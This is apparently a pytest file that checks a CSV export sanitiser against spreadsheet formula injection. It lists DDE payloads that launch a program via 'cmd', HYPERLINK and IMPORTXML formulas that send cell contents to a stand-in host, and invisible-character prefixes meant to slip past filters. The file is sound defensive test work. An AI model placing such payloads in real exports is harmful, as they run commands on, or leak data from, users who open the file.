"""Tables for spreadsheets: a corpus of cells that were computed elsewhere, and whatever else can be thought of."""

import ast
import csv
import io
import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st
from pytest import mark

from sightline.config.paths import ROOT
from sightline.kit.sheets import COMPUTED, UNSEEN, plain, write

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://elsewhere.example/?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://elsewhere.example/",A1),"//a")',
    "|calc",
    "%0A=1+1",
    "＝1+1",  # the wide form, which some programs compute
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹢1",
]
BEFORE = ["", " ", "\t", "\r", "\n", "\r\n", "\0", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u00a0"]
BEFORE += [
    "\u202e",
    "\u2066",
    "\u180e",
    "\u3000",
    "\u0301",
    "\u034f",
    "\x7f",
    "\x1b",
    "\ue000",
    "\u2028",
    " \u200b\t\ufeff ",
]


def computed(cell: str) -> bool:
    """Whether a program that skips what cannot be seen would begin to compute this cell."""
    seen = next((sign for sign in cell if unicodedata.category(sign) not in UNSEEN), "")
    return unicodedata.normalize("NFKC", seen)[:1] in COMPUTED


@mark.parametrize("formula", FORMULAS)
@mark.parametrize("before", BEFORE, ids=ascii)
def test_no_cell_of_the_corpus_is_computed(before, formula):
    cell = plain(before + formula)

    assert computed(before + formula)
    assert not computed(cell)
    assert cell == "'" + formula


@mark.parametrize(
    "text", ["", "Carrick Road 12", "two - three", "a=b", "\u202eright to left", "Nguyễn", "ع", "'quoted", "1.5"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert plain(text) == text


def test_nothing_is_an_empty_cell_and_a_number_its_figures():
    assert (plain(None), plain(12), plain(-3)) == ("", "12", "'-3")


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(), max_size=40))
def test_no_text_at_all_is_computed_or_breaks_the_table(text):
    out = io.StringIO(newline="")

    write(["one", "two"], [[text, "after"]], out)

    heading, *rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert heading == ["one", "two"]
    assert len(rows) == 1
    assert rows[0][1] == "after"
    assert not computed(rows[0][0])


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.characters(), max_size=40))
def test_a_cell_made_plain_once_is_plain(text):
    assert plain(plain(text)) == plain(text)


@mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_of_any_country_makes_a_second_cell(separator):
    out = io.StringIO(newline="")

    write(["one"], [[f"Carrick Road{separator}=1+1"]], out)

    assert out.getvalue().splitlines()[1] == f'"Carrick Road{separator}=1+1"'


def test_there_is_no_other_writer_of_tables():
    """Whatever is exported next goes this way too."""
    for path in (ROOT / "sightline").rglob("*.py"):
        if "tests" in path.parts or path.name == "sheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            named = node.attr if isinstance(node, ast.Attribute) else ""
            imported = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            assert named not in {"writer", "DictWriter", "writerow"}, path
            assert not {"openpyxl", "xlsxwriter", "xlwt"} & set(imported), path
